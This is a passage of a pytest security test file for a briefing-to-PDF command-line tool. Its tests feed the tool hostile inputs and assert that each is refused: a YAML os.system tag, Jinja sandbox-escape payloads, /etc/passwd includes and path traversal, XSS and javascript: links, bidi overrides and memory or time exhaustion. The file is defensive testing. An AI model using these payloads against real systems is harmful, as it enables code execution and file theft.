"""Bad input, one table: each case's exact outcome through the real command line.

Every case runs ``briefpress`` on a copy of the sample project in which the
sheet (``en``, ``modern``, ``a4``) was built once. It asserts the exit code and
every line of output, that no traceback and no unexpected error is shown, that
the earlier PDF is byte-identical unless the case rebuilds it on purpose, that no
temporary file is left, that no network connection was attempted, and that no
byte of a file outside the project (a canary, ``/etc/passwd``) reached the
outputs, their attachments or their text.
"""

from __future__ import annotations

import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from helpers import REPO, SAMPLE, child_env, pdf_text, sigint_reaches_child
from pypdf import PdfReader

from briefpress.cli.commands import main

BUILD = ["build", "--lang", "en", "--layout", "sheet", "--style", "modern", "--paper", "a4"]
GOOD = Path("dist/china-lac-2021/en/sheet-modern-a4.pdf")
FILES = {
    "spec": "content/china-lac-2021/briefing.yaml",
    "en": "content/china-lac-2021/text/en.yaml",
    "es": "content/china-lac-2021/text/es.yaml",
    "sheet": "templates/layouts/sheet.html.j2",
    "modern": "styles/themes/modern.css",
    "es-po": "locale/es/LC_MESSAGES/messages.po",
}
CANARY = "CANARY-5e1f-never-in-a-pdf"
PASSWD = Path("/etc/passwd").read_text(encoding="utf-8").splitlines()[0]
ONE = "1 problem found; nothing was built."
NOT_BUILT = re.compile(r"1 target: 0 built, 0 unchanged, 1 failed; in dist/ \(\d+\.\d s\)")
BUILT = re.compile(r"1 target: 1 built, 0 unchanged, 0 failed; in dist/ \(\d+\.\d s\)")
FAILED = "error: china-lac-2021/en/sheet-modern-a4: "
# Outside a terminal (here: captured), each finished target has its line on stderr.
BUILT_LINE = re.compile(r"\[1/1\] built china-lac-2021/en/sheet-modern-a4 \(\d+\.\d s\)")
FAILED_LINE = re.compile(r"\[1/1\] failed china-lac-2021/en/sheet-modern-a4 \(\d+\.\d s\)")


@dataclass(frozen=True)
class Ctx:
    """Where a case runs: the project, a folder beside it with the canary, a listening port."""

    root: Path
    outside: Path
    port: int


Setup = Callable[[Ctx], None]


@dataclass(frozen=True)
class Case:
    """One bad input: what to do to the project, the command, and the exact outcome."""

    id: str
    setup: Setup | None
    args: list[str]
    code: int
    # Every line of output (stdout, then stderr): a string to equal, or a pattern to match in full.
    lines: list[str | re.Pattern]
    at: tuple[str, str] | None = None  # (file, text): {line} in lines is the line of that text
    rebuilds: bool = False  # the case builds the good target again, successfully
    html_has: tuple[str, ...] = ()  # strings the rebuilt HTML must contain
    pdf_text_has: tuple[str, ...] = ()  # strings the rebuilt PDF's text must contain
    signal: int | None = None  # run as a process, sent this signal once its first new PDF is written


# --- what a case does to the project ---------------------------------------------------


def _placed(text: str, ctx: Ctx) -> str:
    return text.replace("{outside}", str(ctx.outside)).replace("{port}", str(ctx.port)).replace("{repo}", str(REPO))


def edit(file: str, old: str, new: str) -> Setup:
    """Replace ``old``, which must occur once, in one of FILES."""

    def setup(ctx: Ctx) -> None:
        path = ctx.root / FILES[file]
        text = path.read_text(encoding="utf-8")
        assert text.count(old) == 1, f"{old!r} occurs {text.count(old)} times in {path}"
        path.write_text(text.replace(old, _placed(new, ctx)), encoding="utf-8")

    return setup


def write(file: str, data: str | bytes | Callable[[bytes], bytes]) -> Setup:
    """Write one of FILES (or a path) as text, bytes, or a function of its current bytes."""

    def setup(ctx: Ctx) -> None:
        path = ctx.root / FILES.get(file, file)
        path.parent.mkdir(parents=True, exist_ok=True)
        if callable(data):
            path.write_bytes(data(path.read_bytes()))
        elif isinstance(data, bytes):
            path.write_bytes(data)
        else:
            path.write_text(_placed(data, ctx), encoding="utf-8")

    return setup


def style(extra: str) -> Setup:
    """Replace the modern style with the built-in one plus ``extra`` CSS."""
    builtin = (REPO / "styles" / "themes" / "modern.css").read_text(encoding="utf-8")
    return write("modern", builtin + "\n" + extra + "\n")


def base_style(first: str) -> Setup:
    """Replace the base stylesheet, which comes first, with ``first`` and the built-in one."""
    return write("styles/base.css", first + "\n" + (REPO / "styles" / "base.css").read_text(encoding="utf-8"))


def template(body: str) -> Setup:
    """Replace the sheet layout with one that extends the built-in sheet, adding ``body`` first."""
    return write(
        "sheet",
        '{% extends "!base/layouts/sheet.html.j2" %}{% block body %}' + body + "{{ super() }}{% endblock %}",
    )


def symlink(file: str, target: str) -> Setup:
    def setup(ctx: Ctx) -> None:
        path = ctx.root / FILES[file]
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(_placed(target, ctx))

    return setup


def both(*setups: Setup) -> Setup:
    def setup(ctx: Ctx) -> None:
        for one in setups:
            one(ctx)

    return setup


def points(count: int) -> Setup:
    """Give the introduction ``count`` points."""
    lines = "      - p\n" * count
    return edit("en", '      - "Theme: overcoming', lines + '      - "Theme: overcoming')


POINT = '      - "Theme: overcoming'
FIELD = "parts.introduction.points[0]"
TOO_MANY = "give at most 50 items here; this list has {}"


CASES = [
    # --- YAML syntax and structure ---------------------------------------------------
    Case(
        "yaml-unclosed-flow-sequence",
        edit("spec", "languages: [en, es, pt-BR, zh-Hans]", "languages: [en, es, pt-BR, zh-Hans"),
        BUILD, 1,
        ["error: {spec}:7: YAML syntax: expected ',' or ']', but got ':' "
         "(while parsing a flow sequence that starts on line 6)", ONE],
    ),
    Case(
        "yaml-tab-indentation",
        edit("en", "\nshort_title:", "\n\tshort_title:"),
        BUILD, 1,
        ["error: {en}:{line}: YAML syntax: found character '\\t' that cannot start any token", ONE],
        at=("en", "\tshort_title:"),
    ),
    Case(
        "yaml-duplicate-key",
        edit("en", "\nshort_title:", "\nsubtitle: again\nshort_title:"),
        BUILD, 1,
        ["error: {en}:{line}: subtitle: duplicate key (first defined on line 3)", ONE],
        at=("en", "subtitle: again"),
    ),
    Case(
        "yaml-anchor-and-alias",
        edit("en", "\nshort_title:", "\nx: &big [a, b]\ny: *big\nshort_title:"),
        BUILD, 1,
        ["error: {en}:{line}: anchors (&big) are not allowed", ONE],
        at=("en", "x: &big"),
    ),
    Case(
        "yaml-python-tag",
        edit("en", "\nshort_title:", "\nshort_title: !!python/object/apply:os.system ['touch /tmp/owned']\nx:"),
        BUILD, 1,
        ["error: {en}:{line}: explicit tags (tag:yaml.org,2002:python/object/apply:os.system) are not allowed", ONE],
        at=("en", "!!python"),
    ),
    Case(
        "yaml-text-file-is-a-list",
        write("en", "- title\n- subtitle\n"),
        BUILD, 1,
        ["error: {en}:1: the file must hold a mapping of fields", ONE],
    ),
    Case(
        "yaml-empty-text-file",
        write("en", "# nothing yet\n"),
        BUILD, 1,
        ["error: {en}:1: the file is empty", ONE],
    ),
    Case(
        "yaml-unquoted-emphasis-at-start",
        edit("en", POINT, "      - *Theme* first\n" + POINT),
        BUILD, 1,
        ["error: {en}:{line}: YAML syntax: expected alphabetic or numeric character, but found '*'; "
         "text that starts with * must be in quotes", ONE],
        at=("en", "- *Theme*"),
    ),
    Case(
        "yaml-unquoted-link-at-start",
        edit("en", POINT, '      - [CELAC](https://celac.example.org) " + x\n' + POINT),
        BUILD, 1,
        [re.compile(r"error: \{en\}:\{line\}: YAML syntax: .*; text that starts with \[ must be in quotes"), ONE],
        at=("en", "- [CELAC]"),
    ),
    # --- schema ------------------------------------------------------------------------
    Case(
        "schema-missing-field",
        edit("en", "\nshort_title:", "\nshort_titel:"),
        BUILD, 1,
        ["error: {en}:2: short_title: this field is required",
         "error: {en}:{line}: short_titel: unknown field (a typo?)",
         "2 problems found; nothing was built."],
        at=("en", "short_titel:"),
    ),
    Case(
        "schema-points-not-a-list",
        edit("en", "    points:\n" + POINT, "    points: just one\n    old:\n" + POINT),
        BUILD, 1,
        ["error: {en}:{line}: parts.introduction.points: write points as a list, one item a line starting with "
         "'- ' (or [a, b]), even for one, not 'just one'",
         re.compile(r"error: \{en\}:\d+: parts\.introduction\.old: unknown field \(a typo\?\)"),
         "2 problems found; nothing was built."],
        at=("en", "points: just one"),
    ),
    Case(
        "schema-figure-value-not-a-number",
        edit("spec", "value: 42.3", "value: forty"),
        BUILD, 1,
        ["error: {spec}:{line}: figures[2].value: 'forty' is not a number: write a plain number, e.g. "
         "518400000000 (no words or units: the unit goes in unit:)", ONE],
        at=("spec", "value: forty"),
    ),
    Case(
        "schema-figure-value-in-words",
        edit("spec", "value: 411250000000", "value: 411.25 billion"),
        BUILD, 1,
        ["error: {spec}:{line}: figures[1].value: '411.25 billion' is not a plain number: write 411250000000 "
         "(no words or units: the unit goes in unit:)", ONE],
        at=("spec", "value: 411.25 billion"),
    ),
    Case(
        "schema-nested-part-wrong-shape",
        edit("spec", "parts: [introduction, partnership,", "parts: [introduction, {id: partnership, title: x},"),
        BUILD, 1,
        ["error: {spec}:{line}: parts[1]: a part is an id, or {{id: ..., parts: [...]}} for a part that holds parts; "
         "title: is not one of its fields; this one has no parts:", ONE],
        at=("spec", "parts: [introduction, {id: partnership"),
    ),
    Case(
        "schema-priority-not-a-number",
        edit("spec", "  - id: trade-2021\n", "  - id: trade-2021\n    priority: high\n"),
        BUILD, 1,
        ["error: {spec}:{line}: figures[1].priority: 'high' is not a priority: write 1 (always shown), "
         "2 (the default) or 3 (left out first where room is short)", ONE],
        at=("spec", "priority: high"),
    ),
    Case(
        "schema-text-given-as-a-list",
        edit("en", '\nshort_title: "China-LAC Relations in the New Era"', "\nshort_title: [China-LAC, New Era]"),
        BUILD, 1,
        ["error: {en}:{line}: short_title: write one piece of text here, not a list", ONE],
        at=("en", "short_title: [China-LAC"),
    ),
    Case(
        "schema-part-id-typo-in-base-language",
        both(edit("en", "\n  introduction:\n", "\n  introdution:\n"),
             edit("es", '  introduction:\n    title: "Introducción: la Tercera Reunión Ministerial"\n',
                  "  introduction:\n")),
        BUILD, 1,
        ["error: {en}:23: parts: missing: introduction",
         "error: {en}:{line}: parts.introdution: 'introdution' is not declared in briefing.yaml",
         "2 problems found; nothing was built."],
        at=("en", "  introdution:"),
    ),
    Case(
        "schema-impossible-date",
        edit("spec", "    date: 2015-01", "    date: 2015-13"),
        BUILD, 1,
        ["error: {spec}:{line}: timeline[1].date: '2015-13' is not a real date (month must be in 1..12)", ONE],
        at=("spec", "date: 2015-13"),
    ),
    Case(
        "schema-undeclared-part",
        edit("en", "\n  introduction:\n", "\n  epilogue:\n    title: x\n    summary: A. B.\n    points: [a, b, c]\n"
             "  introduction:\n"),
        BUILD, 1,
        ["error: {en}:{line}: parts.epilogue: 'epilogue' is not declared in briefing.yaml", ONE],
        at=("en", "  epilogue:"),
    ),
    Case(
        "schema-language-without-text",
        lambda ctx: (ctx.root / FILES["es"]).unlink(),
        BUILD, 1,
        ["error: {spec}:6: languages: no text file for 'es' (expected es.yaml in text/)", ONE],
    ),
    Case(
        "schema-javascript-link",
        edit("en", POINT, '      - "See [this](javascript:alert(document.cookie))."\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the link 'javascript:alert(document.cookie)' uses javascript:, "
         "only http, https and mailto links are allowed", ONE],
        at=("en", "javascript:"),
    ),
    Case(
        "schema-file-link-spelled-with-entities",
        edit("en", POINT, '      - "See [this](&#102;ile:///etc/passwd)."\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the link 'file:///etc/passwd' uses file:, "
         "only http, https and mailto links are allowed", ONE],
        at=("en", "&#102;ile"),
    ),
    Case(
        "schema-relative-link",
        edit("en", POINT, '      - "See [the notes](../notes.html)."\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the link '../notes.html' has no scheme: "
         "write a full http://, https:// or mailto: address", ONE],
        at=("en", "../notes.html"),
    ),
    # --- encodings -----------------------------------------------------------------------
    Case(
        "encoding-utf8-bom-is-accepted",
        write("en", lambda data: b"\xef\xbb\xbf" + data),
        ["check"], 0,
        [re.compile(r"china-lac-2021 .*")] * 4 + ["ok: 1 briefing, 72 targets, no problems found"],
    ),
    Case(
        "encoding-latin-1",
        write("en", lambda data: data.replace(b"\nshort_title:", "\ntitle_é:".encode("latin-1") + b" x\nshort_title:")),
        BUILD, 1,
        ["error: {en}:{line}: the file is not valid UTF-8 text", ONE],
        at=("en", "title_"),
    ),
    Case(
        "encoding-nul-byte",
        write("en", lambda data: data.replace(b"\nshort_title:", b"\nshort_title: \x00")),
        BUILD, 1,
        ["error: {en}:{line}: the control character U+0000 is not allowed in YAML text", ONE],
        at=("en", "short_title:"),
    ),
    Case(
        "encoding-utf-16",
        write("en", lambda data: data.decode("utf-8").encode("utf-16")),
        BUILD, 1,
        ["error: {en}:1: the file is UTF-16 text; save it as UTF-8", ONE],
    ),
    # --- hostile strings -------------------------------------------------------------------
    Case(
        "string-html-and-script-stay-text",
        edit("en", POINT, '      - "<script>alert(1)</script><img src=x onerror=alert(2)> <b>bold</b>?"\n' + POINT),
        BUILD, 0, [BUILT, BUILT_LINE], rebuilds=True,
        html_has=("<li>&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt; "
                  "&lt;b&gt;bold&lt;/b&gt;?</li>",),
        pdf_text_has=("<script>alert(1)</script>",),
    ),
    Case(
        "string-jinja-syntax-stays-text",
        edit("en", POINT, '      - "{{ 7*7 }} {% include \'/etc/passwd\' %} {{ config }}"\n' + POINT),
        BUILD, 0, [BUILT, BUILT_LINE], rebuilds=True,
        html_has=("<li>{{ 7*7 }} {% include &#39;/etc/passwd&#39; %} {{ config }}</li>",),
        pdf_text_has=("{{ 7*7 }}",),
    ),
    Case(
        "string-bell-control-character",
        edit("en", POINT, '      - "Ring \\a the bell."\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the control character U+0007 is not allowed in text", ONE],
        at=("en", "Ring"),
    ),
    Case(
        "string-escape-control-character",
        edit("en", '\ntitle: "China-LAC', '\ntitle: "\\e[31mChina-LAC'),
        BUILD, 1,
        ["error: {en}:2: title: the control character U+001B is not allowed in text", ONE],
    ),
    Case(
        "string-raw-control-character-in-file",
        write("en", lambda data: data.replace(b'\ntitle: "China-LAC', b'\ntitle: "\x1b[31mChina-LAC')),
        BUILD, 1,
        ["error: {en}:2: the control character U+001B is not allowed in YAML text", ONE],
    ),
    Case(
        "string-bidi-override",
        edit("en", POINT, '      - "Pay \u202etxet desrever"\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the bidi override U+202E is not allowed: "
         "it makes text read other than it prints",
         ONE],
        at=("en", "Pay"),
    ),
    Case(
        "string-lone-surrogate",
        edit("en", POINT, '      - "Half a pair: \\uD800"\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the lone surrogate U+D800 is not allowed in text", ONE],
        at=("en", "Half a pair"),
    ),
    Case(
        "string-10000-character-word",
        edit("en", POINT, '      - "' + "x" * 10_000 + '"\n' + POINT),
        BUILD, 1,
        [f"error: {{en}}:{{line}}: {FIELD}: the word 'xxxxxxxxxxxxxxxxxxxx...' is 10000 characters long; "
         "no line holds a word of more than 80 characters", ONE],
        at=("en", '- "xxxxxxxxxx'),
    ),
    Case(
        "string-100000-points",
        points(100_000),
        BUILD, 1,
        ["error: {en}:{line}: parts.introduction.points: " + TOO_MANY.format(100_003), ONE],
        at=("en", "    points:\n      - p\n"),
    ),
    Case(
        "string-file-over-1-mib",
        write("en", lambda data: data + b"# " + b"x" * 1024 * 1024 + b"\n"),
        BUILD, 1,
        ["error: {en}:1: the file is larger than 1024 KiB; not read", ONE],
    ),
]

REFUSED = "ValueError: refused '{url}': {why}"
USAGE = ["Usage: briefpress build [OPTIONS] [BRIEFINGS]...", "Try 'briefpress build --help' for help.", ""]

HOSTILE = [
    # --- hostile templates: the sandbox, the template folders ---------------------------------
    Case(
        "template-sandbox-class-of-content",
        template("{{ doc.__class__.__mro__[1].__subclasses__() }}"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE,
         FAILED + "template: access to attribute '__class__' of 'Edition' object is unsafe."],
    ),
    Case(
        "template-sandbox-string-subclasses",
        template("{{ ''.__class__.__base__.__subclasses__()[0].__init__.__globals__ }}"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE,
         FAILED + "template: access to attribute '__class__' of 'str' object is unsafe."],
    ),
    Case(
        "template-sandbox-format-string",
        template("{{ '{0.__class__.__init__.__globals__}'.format(doc) }}"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE,
         FAILED + "template: access to attribute '__init__' of 'StrictUndefined' object is unsafe."],
    ),
    Case(
        "template-exhausts-memory",
        template("{% set held = [] %}{% for i in range(3000) %}{% set _ = held.append('x' * 999999 ~ i) %}"
                 "{% endfor %}{{ held | length }}"),
        [*BUILD, "--memory-limit", "1536"], 1,
        [NOT_BUILT, FAILED_LINE,
         FAILED + "exceeded the memory limit of 1536 MiB"],
    ),
    Case(
        "template-takes-forever",
        template("<table>{% for i in range(60000) %}<tr><td>{{ i }}</td></tr>{% endfor %}</table>"),
        [*BUILD, "--time-limit", "5"], 1, [NOT_BUILT, FAILED_LINE, FAILED + "exceeded the time limit of 5 s; stopped"],
    ),
    Case(
        "template-include-absolute-path",
        template('{% include "/etc/passwd" %}'),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "template not found: /etc/passwd"],
    ),
    Case(
        "template-include-parent-folders",
        template('{% include "../../../../../../../../etc/passwd" %}'),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "template not found: ../../../../../../../../etc/passwd"],
    ),
    Case(
        "template-include-builtin-parent-folders",
        template('{% include "!base/../../canary.html.j2" %}'),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "template not found: !base/../../canary.html.j2"],
    ),
    Case(
        "template-symlink-outside",
        symlink("sheet", "{outside}/canary.html.j2"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "template: {root}/{sheet} leads outside the template folders; refused"],
    ),
    Case(
        "template-attachment-of-etc-passwd",
        template('<link rel="attachment" href="file:///etc/passwd">'),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load attachment: "
         + REFUSED.format(url="file:///etc/passwd", why="outside the project")],
    ),
    Case(
        "template-attachment-outside-by-relative-path",
        template('<link rel="attachment" href="../canary.css">'),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load attachment: "
         + REFUSED.format(url="file://{outside}/canary.css", why="outside the project")],
    ),
    Case(
        "template-images-from-the-network",
        template('<img alt="x" src="http://127.0.0.1:{port}/x.png"><img alt="y" src="http://example.com/y.png">'),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED
         + "Failed to load image at 'http://127.0.0.1:{port}/x.png': "
         + REFUSED.format(url="http://127.0.0.1:{port}/x.png", why="only project files and data: URLs are allowed")
         + "", FAILED + "Failed to load image at 'http://example.com/y.png': "
         + REFUSED.format(url="http://example.com/y.png", why="only project files and data: URLs are allowed")],
    ),
    # --- hostile CSS ------------------------------------------------------------------------------
    Case(
        "css-import-etc-passwd",
        base_style("@import url(file:///etc/passwd);"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load stylesheet at file:///etc/passwd : "
         + REFUSED.format(url="file:///etc/passwd", why="outside the project")],
    ),
    Case(
        "css-import-outside-by-relative-path",
        base_style('@import "../canary.css";'),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load stylesheet at file://{outside}/canary.css : "
         + REFUSED.format(url="file://{outside}/canary.css", why="outside the project")],
    ),
    Case(
        "css-url-from-the-network",
        style("body { background: url(http://example.com/x.png) } h1 { background: url(http://127.0.0.1:{port}/y) }"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED
         + "Failed to load image at 'http://127.0.0.1:{port}/y': "
         + REFUSED.format(url="http://127.0.0.1:{port}/y", why="only project files and data: URLs are allowed")
         + "", FAILED + "Failed to load image at 'http://example.com/x.png': "
         + REFUSED.format(url="http://example.com/x.png", why="only project files and data: URLs are allowed")],
    ),
    Case(
        "css-url-parent-folders",
        style("body { background: url(../../../../../../../../etc/passwd) }"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load image at 'file:///etc/passwd': "
         + REFUSED.format(url="file:///etc/passwd", why="outside the project")],
    ),
    Case(
        "css-font-face-from-etc",
        style("@font-face { font-family: Leak; src: url(file:///etc/passwd) } body { font-family: Leak }"),
        BUILD, 0, [BUILT, BUILT_LINE, "warning: china-lac-2021/en/sheet-modern-a4: Font-face 'Leak' cannot be loaded"],
        rebuilds=True,
    ),
    Case(
        "css-symlink-outside",
        symlink("modern", "{outside}/canary.css"),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "{root}/{modern} leads outside the style folders; refused"],
    ),
    Case(
        "css-closes-the-style-element",
        style("p { color: red } </style><script>alert(1)</script>"),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "{root}/{modern}: a stylesheet must not contain '</style'"],
    ),
    # --- missing fonts and images -------------------------------------------------------------------
    Case(
        "font-not-installed",
        style(':root { --font-body: "Frutiger Nonexistent", sans-serif; }'),
        BUILD, 1,
        ["error: {root}/{modern}: font 'Frutiger Nonexistent' is not installed",
         "install the fonts (apt-get install fonts-noto-core fonts-noto-cjk) or change the style"],
    ),
    Case(
        "image-missing",
        template('<img alt="logo" src="styles/logo.png">'),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load image at 'file://{root}/styles/logo.png': "
         "ValueError: 'file://{root}/styles/logo.png' does not exist"],
    ),
    # --- unknown names on the command line -----------------------------------------------------------
    Case("cli-unknown-briefing", None, ["build", "nope"], 2,
         [*USAGE, "error: unknown briefing nope (available: china-lac-2021)"]),
    Case("cli-unknown-language", None, ["build", "--lang", "fr"], 2,
         [*USAGE, "error: unknown language fr (available: en, es, pt-BR, zh-Hans)"]),
    Case("cli-unknown-layout", None, ["build", "--layout", "poster"], 2,
         [*USAGE, "error: unknown layout poster (available: brief, handout, sheet)"]),
    Case("cli-unknown-style", None, ["build", "--style", "fancy"], 2,
         [*USAGE, "error: unknown style fancy (available: economy, formal, large-print, modern)"]),
    Case("cli-unknown-paper", None, ["build", "--paper", "a3"], 2,
         [*USAGE, "error: unknown paper a3 (available: a4, letter)"]),
    Case("cli-unknown-option", None, ["build", "--colour", "red"], 2,
         [*USAGE, "error: no such option '--colour'. (Did you mean one of: '--layout', '--out'?)"]),
    Case("cli-unknown-command", None, ["frobnicate"], 2,
         ["Usage: briefpress [OPTIONS] [COMMAND] [ARGS]...", "Try 'briefpress --help' for help.", "",
          "error: no such command 'frobnicate'."]),
]
CASES += HOSTILE
# One worker, so the three targets are rendered one after another, in this order.
THREE = ["build", "-j", "1", "--lang", "en", "--layout", "sheet", "--style", "modern,economy,formal", "--paper", "a4"]
CASES += [
    # --- interrupted builds -------------------------------------------------------------------------
    # Quiet: what matters is the last line and what is left on disk, not the progress lines.
    Case("interrupted-by-sigterm", None, ["-q", *THREE], 143, [], signal=signal.SIGTERM),
    Case("interrupted-by-ctrl-c", None, ["-q", *THREE], 130, ["interrupted; files already in place are unchanged"],
         signal=signal.SIGINT),
]


# --- the second round: holes a red-team pass found ------------------------------------------------

ES_FAILED = "error: china-lac-2021/es/sheet-modern-a4: "
ES_BUILD = ["build", "--lang", "es", "--layout", "sheet", "--style", "modern", "--paper", "a4"]
ES_FAILED_LINE = re.compile(r"\[1/1\] failed china-lac-2021/es/sheet-modern-a4 \(\d+\.\d s\)")
COVERAGE = [re.compile(r"china-lac-2021 .*")] * 4
CHECK_OK = "ok: 1 briefing, 72 targets, no problems found"
NO_FORMS = "the page holds a <{}> element: a briefing has no forms"
LINK = "the link '{}' is not allowed: only http, https, mailto and links within the document are"
HIDDEN = ("the page holds U+{}, which prints as nothing or reorders the text around it (after {!r}); "
          "a template or a label catalog put it there")


def catalog_entry(msgid: str, msgstr: str) -> Setup:
    """Give the project a Spanish catalog whose entry for ``msgid`` is ``msgstr``."""

    def setup(ctx: Ctx) -> None:
        text = (REPO / "locale" / "es" / "LC_MESSAGES" / "messages.po").read_text(encoding="utf-8")
        start = text.index(f'msgid "{msgid}"')
        at = text.index("msgstr", start)
        end = text.index("\n", at)
        path = ctx.root / "locale" / "es" / "LC_MESSAGES" / "messages.po"
        path.parent.mkdir(parents=True)
        path.write_text(text[:at] + f'msgstr "{msgstr}"' + text[end:], encoding="utf-8")

    return setup


def folder_symlink(name: str) -> Setup:
    """Make the project's ``name`` folder a symlink to a folder outside, holding an overriding file."""

    def setup(ctx: Ctx) -> None:
        target = ctx.outside / name
        (target / "layouts").mkdir(parents=True)
        (target / "themes").mkdir()
        layout = f'<!-- {CANARY} -->{{% extends "!base/layouts/sheet.html.j2" %}}'
        (target / "layouts" / "sheet.html.j2").write_text(layout)
        (target / "themes" / "modern.css").write_text(f"/* {CANARY} */")
        (ctx.root / name).symlink_to(target)

    return setup


def sparse(file: str, size: int) -> Setup:
    def setup(ctx: Ctx) -> None:
        path = ctx.root / file
        path.parent.mkdir(parents=True, exist_ok=True)
        with path.open("wb") as handle:
            handle.truncate(size)

    return setup


def blocked(folder: str) -> Setup:
    """Put a file where an output folder must go."""
    return write(folder, "a file, not a folder\n")


def fifo(file: str) -> Setup:
    def setup(ctx: Ctx) -> None:
        path = ctx.root / FILES.get(file, file)
        path.unlink()
        os.mkfifo(path)

    return setup


def deep_yaml(levels: int) -> Setup:
    return edit("en", "\nshort_title:", "\nx: " + "[" * levels + "]" * levels + "\nshort_title:")


CASES += [
    # 1. Rendering reads the template and style folders only: not the clone, not the rest of the project.
    Case(
        "fetch-a-file-of-the-clone",
        template('<link rel="attachment" href="file://{repo}/pyproject.toml">'),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load attachment: "
         + REFUSED.format(url="file://{repo}/pyproject.toml", why="outside the project")],
    ),
    Case(
        "fetch-another-briefing-of-the-project",
        template('<link rel="attachment" href="content/china-lac-2021/briefing.yaml">'),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load attachment: "
         + REFUSED.format(url="file://{root}/content/china-lac-2021/briefing.yaml",
                          why="in the project, but outside its templates/ and styles/ folders")],
    ),
    Case(
        "fetch-an-output-of-the-project",
        template('<link rel="attachment" href="dist/china-lac-2021/en/sheet-modern-a4.html">'),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load attachment: "
         + REFUSED.format(url="file://{root}/dist/china-lac-2021/en/sheet-modern-a4.html",
                          why="in the project, but outside its templates/ and styles/ folders")],
    ),
    Case(
        "fetch-through-a-symlink-in-the-styles-into-the-content",
        both(lambda ctx: (ctx.root / "styles").mkdir(exist_ok=True)
             or (ctx.root / "styles" / "logo.png").symlink_to("../content/china-lac-2021/briefing.yaml"),
             template('<link rel="attachment" href="styles/logo.png">')),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "Failed to load attachment: "
         + REFUSED.format(url="file://{root}/styles/logo.png",
                          why="in the project, but outside its templates/ and styles/ folders")],
    ),
    # 2. check compiles templates at once, in a bounded worker: constant folding cannot run away.
    Case(
        "check-power-tower-in-an-unused-partial",
        write("templates/partials/unused.html.j2", "{{ 9 ** (9 ** 9) }}"),
        ["check"], 0, [*COVERAGE, CHECK_OK],
    ),
    Case(
        "check-huge-repetition-in-an-unused-partial",
        write("templates/partials/unused.html.j2", "{{ 'x' * 300000000 }}{{ 'x'|center(900000000) }}"),
        ["check"], 0, [*COVERAGE, CHECK_OK],
    ),
    Case(
        "template-power-tower",
        template("{{ 9 ** (9 ** 9) }}"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "template: 9 ** 387420489 has about 369,693,100 digits; at most 4,000"],
    ),
    Case(
        "template-power-too-long-to-print",
        template("{{ 10 ** 100000 }}"),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "template: 10 ** 100000 has about 100,000 digits; at most 4,000"],
    ),
    Case(
        "template-huge-repetition",
        template("{{ 'x' * 300000000 }}"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "template: repeating 'x' 300,000,000 times makes 300,000,000 items; "
         "at most 1,000,000"],
    ),
    Case(
        "template-huge-format-width",
        template("{{ '{:>900000000}'.format(1) }}"),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + "template: a field 900,000,000 characters wide; at most 10,000"],
    ),
    Case(
        "template-macro-recursion",
        template("{% macro down(n) %}{{ down(n + 1) }}{% endmacro %}{{ down(0) }}"),
        BUILD, 1,
        [NOT_BUILT, FAILED_LINE, FAILED + "nested too deeply: a macro or template that calls itself, "
         "or a stylesheet that imports itself"],
    ),
    # 3 and 4. No forms and no active links reach a PDF; a PDF is read back before it is written.
    Case(
        "template-form-with-styled-inputs",
        template('<form action="https://example.com/collect"><input name="q" style="appearance: auto">'
                 '<input type="checkbox" style="appearance: auto"></form>'),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + NO_FORMS.format("form")],
    ),
    Case(
        "template-button-outside-a-form",
        template('<button style="appearance: auto">Go</button>'),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + NO_FORMS.format("button")],
    ),
    Case(
        "template-javascript-link",
        template('<a href="javascript:alert(1)">x</a>'),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + LINK.format("javascript:alert(1)")],
    ),
    Case(
        "template-javascript-link-spelled-with-entities",
        template('<a href="&#106;ava&#x09;script:alert(1)">x</a>'),
        BUILD, 1, [NOT_BUILT, FAILED_LINE, FAILED + LINK.format("javascript:alert(1)")],
    ),
    Case(
        "template-file-link",
        template('<a href="file:///etc/passwd">x</a>'),
